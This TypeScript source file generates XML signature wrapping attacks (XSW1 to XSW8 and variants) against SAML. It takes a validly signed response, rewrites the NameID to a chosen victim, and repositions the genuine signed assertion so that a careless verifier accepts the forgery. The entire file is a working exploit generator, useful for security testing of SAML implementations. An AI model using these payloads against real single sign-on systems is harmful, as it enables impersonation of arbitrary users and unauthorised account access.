// XML signature wrapping: a genuine signed assertion is kept somewhere in the document, and a forged one stands where a careless
// reader looks. The shapes are those of "On Breaking SAML: Be Whoever You Want to Be" (Somorovsky et al., 2012), XSW1 to XSW8.
const PIECES = /<saml:Assertion .*<\/saml:Assertion>/s;
const SIGNATURE = /<ds:Signature .*?<\/ds:Signature>/s;

interface Pieces {
  response: string;
  /** With its signature. */
  assertion: string;
  bare: string;
  signature: string;
  forged: string;
}

function takeApart(signed: string, victim: string): Pieces {
  const assertion = PIECES.exec(signed)?.[0] ?? "";
  const signature = SIGNATURE.exec(assertion)?.[0] ?? "";
  const bare = assertion.replace(SIGNATURE, "");
  const forged = bare.replace(/(<saml:NameID[^>]*>)[^<]*/, `$1${victim}`).replace(/ ID="[^"]*"/, ' ID="_forged"');
  return { response: signed, assertion, bare, signature, forged };
}

const inside = (outer: string, inner: string): string =>
  outer.replace(/<\/saml:Assertion>$/, `${inner}</saml:Assertion>`);
const withSignature = (assertion: string, signature: string): string =>
  assertion.replace("</saml:Issuer>", `</saml:Issuer>${signature}`);
const holding = (signature: string, what: string): string =>
  signature.replace("</ds:Signature>", `<ds:Object>${what}</ds:Object></ds:Signature>`);

/** Of a response whose assertion is signed. XSW1 and 2 are about signed responses: see `wrapResponse`. */
export function wrapAssertion(signed: string, victim: string): Record<string, string> {
  const { response, assertion, bare, signature, forged } = takeApart(signed, victim);
  const put = (what: string): string => response.replace(PIECES, () => what);
  return {
    XSW3: put(forged + assertion),
    XSW4: put(inside(forged, assertion)),
    XSW5: put(withSignature(forged, signature) + bare),
    XSW6: put(withSignature(forged, holding(signature, bare))),
    XSW7: put(`<samlp:Extensions>${forged}</samlp:Extensions>${assertion}`),
    "XSW7, found first": put(`<samlp:Extensions>${assertion}</samlp:Extensions>${forged}`),
    XSW8: put(withSignature(forged, holding(signature, bare)).replace("<ds:Object>", '<ds:Object Id="o">')),
    "the same id twice": put(forged.replace('ID="_forged"', / ID="[^"]*"/.exec(bare)?.[0].trim() ?? "") + assertion),
    "signed one after": put(assertion + forged),
  };
}

/** Of a response that is signed as a whole. */
export function wrapResponse(signed: string, victim: string): Record<string, string> {
  const signature = SIGNATURE.exec(signed)?.[0] ?? "";
  const bare = signed.replace(SIGNATURE, "");
  const forged = bare
    .replace(/(<saml:NameID[^>]*>)[^<]*/, `$1${victim}`)
    .replace(/(<samlp:Response [^>]*) ID="[^"]*"/, '$1 ID="_forged"');
  return {
    XSW1: forged.replace("</saml:Issuer>", `</saml:Issuer>${holding(signature, bare)}`),
    XSW2: forged.replace(
      "</saml:Issuer>",
      `</saml:Issuer><ds:Object xmlns:ds="http://www.w3.org/2000/09/xmldsig#">${bare}</ds:Object>${signature}`,
    ),
  };
}
